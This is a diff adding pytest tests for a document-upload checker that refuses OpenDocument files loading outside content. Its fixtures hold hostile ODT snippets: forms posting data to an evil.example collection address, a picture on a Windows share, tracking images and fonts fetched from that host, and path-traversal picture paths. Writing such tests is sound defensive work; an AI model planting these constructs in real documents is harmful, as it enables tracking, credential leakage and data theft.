@@ -519,3 +519,179 @@ def test_a_package_that_packs_well_but_stays_small_is_accepted(name):
 def test_two_dots_inside_a_name_are_not_a_path_out(entry):
     data = _with_entry(files.docx_bytes(), entry, b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
     assert _inspect(data, "paper.docx").file_format == "docx"
+
+
+# OpenDocument texts: the equivalents of altChunk and INCLUDETEXT / INCLUDEPICTURE (a linked
+# section, a linked picture), and anything else that loads an address.
+
+ODT_ADVICE = ("odt_active_content", OFFICE_ADVICE)
+ODT_EXTERNAL_CONTENT = ("odt_external_content", "The document loads content from outside it.")
+ODT_EXTERNAL_IMAGE = ("odt_external_image", "The document shows a picture loaded from outside it.")
+ODT_FORM_SUBMISSION = ("odt_form_submission", "The document contains a form that sends its data to an address.")
+STYLE_NAMESPACES = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
+    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink"'
+)
+
+
+def _styles(content: str) -> tuple[tuple[str, bytes], ...]:
+    return (
+        (
+            "styles.xml",
+            f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {STYLE_NAMESPACES}>{content}'
+            "</office:document-styles>".encode(),
+        ),
+    )
+
+
+def _form(content: str) -> str:
+    return (
+        '<office:forms xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
+        f'xmlns:xforms="http://www.w3.org/2002/xforms">{content}</office:forms>'
+    )
+
+
+@pytest.mark.parametrize(
+    ("data", "reasons"),
+    [
+        pytest.param(
+            files.odt_bytes(
+                body='<text:section text:name="Annex"><text:section-source xlink:href="file:///C:/share/annex.odt" '
+                'text:filter-name="writer8"/></text:section>'
+            ),
+            [("odt_external_document", "The document includes another document through a link.")],
+            id="linked-section",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                body='<text:p><draw:frame><draw:image xlink:href="Pictures/../../../home/x.png"/></draw:frame></text:p>'
+            ),
+            [ODT_EXTERNAL_IMAGE],
+            id="picture-path-climbing-out",
+        ),
+        pytest.param(
+            files.odt_bytes(body='<text:p><draw:frame><draw:image xlink:href="%2e%2e/x.png"/></draw:frame></text:p>'),
+            [ODT_EXTERNAL_IMAGE],
+            id="picture-path-percent-encoded",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                body='<text:p><draw:frame><draw:image xlink:href="\\\\evil.example\\share\\x.png"/>'
+                "</draw:frame></text:p>"
+            ),
+            [ODT_EXTERNAL_IMAGE],
+            id="picture-on-a-windows-share",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                parts=_styles(
+                    '<office:styles><style:style style:name="Page"><style:graphic-properties>'
+                    '<style:background-image xlink:href="https://evil.example/track.png"/>'
+                    "</style:graphic-properties></style:style></office:styles>"
+                )
+            ),
+            [ODT_EXTERNAL_CONTENT],
+            id="background-image-from-an-address",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                parts=_styles(
+                    '<office:font-face-decls><style:font-face style:name="Evil"><svg:font-face-src>'
+                    '<svg:font-face-uri xlink:href="https://evil.example/font.ttf"/></svg:font-face-src>'
+                    "</style:font-face></office:font-face-decls>"
+                )
+            ),
+            [ODT_EXTERNAL_CONTENT],
+            id="font-from-an-address",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                body='<text:alphabetical-index text:name="Index"><text:alphabetical-index-source>'
+                "</text:alphabetical-index-source></text:alphabetical-index>"
+                '<text:alphabetical-index-auto-mark-file xlink:href="file:///C:/share/marks.sdi"/>'
+            ),
+            [ODT_EXTERNAL_CONTENT],
+            id="index-marks-from-another-file",
+        ),
+        pytest.param(
+            files.odt_bytes(body=_form('<form:form form:name="F" xlink:href="https://evil.example/collect"/>')),
+            [ODT_FORM_SUBMISSION],
+            id="form-sending-its-data",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                body=_form(
+                    '<xforms:model><xforms:submission xforms:id="s" action="https://evil.example/collect" '
+                    'method="post"/></xforms:model>'
+                )
+            ),
+            [ODT_FORM_SUBMISSION],
+            id="xforms-submission",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                body=_form('<xforms:model><xforms:instance src="https://evil.example/data.xml"/></xforms:model>')
+            ),
+            [ODT_EXTERNAL_CONTENT],
+            id="xforms-instance-from-an-address",
+        ),
+    ],
+)
+def test_an_opendocument_text_that_loads_an_address_is_refused(data, reasons):
+    assert _refusal(data, "paper.odt") == [*reasons, ODT_ADVICE]
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(
+            files.odt_bytes(
+                body='<text:p><draw:a xlink:href="https://www.gfmd.org/"><draw:frame><draw:image '
+                'xlink:href="Pictures/logo.png"/></draw:frame></draw:a></text:p>'
+            ),
+            id="picture-linking-to-a-web-page",
+        ),
+        pytest.param(
+            files.odt_bytes(body='<text:section text:name="Annex"><text:p>Annex</text:p></text:section>'),
+            id="section-of-its-own",
+        ),
+        pytest.param(
+            files.odt_bytes(
+                parts=_styles(
+                    '<office:styles><style:style style:name="Page"><style:graphic-properties>'
+                    '<style:background-image xlink:href="Pictures/paper.png"/>'
+                    "</style:graphic-properties></style:style></office:styles>"
+                )
+            ),
+            id="background-image-in-the-package",
+        ),
+        pytest.param(files.odt_bytes(body=_form('<form:form form:name="F"/>')), id="form-sending-nothing"),
+    ],
+)
+def test_an_opendocument_text_with_its_own_content_and_web_links_is_accepted(data):
+    assert _inspect(data, "paper.odt").file_format == "odt"
+
+
+def test_an_opendocument_text_as_libreoffice_saves_it_with_an_empty_configuration_part_is_accepted():
+    data = files.odt_bytes(parts=(("Configurations2/accelerator/current.xml", b""), ("Configurations2/toolbar/", b"")))
+    assert _inspect(data, "paper.odt").file_format == "odt"
+
+
+def test_a_chart_workbook_written_by_a_spreadsheet_program_is_accepted():
+    import io
+
+    import openpyxl
+    from openpyxl.chart import BarChart, Reference
+
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    for row in range(1, 5):
+        sheet.append([row, row * row])
+    chart = BarChart()
+    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=4))
+    sheet.add_chart(chart, "D2")
+    out = io.BytesIO()
+    workbook.save(out)
+    assert _inspect(_docx_with_chart(out.getvalue()), "paper.docx").file_format == "docx"
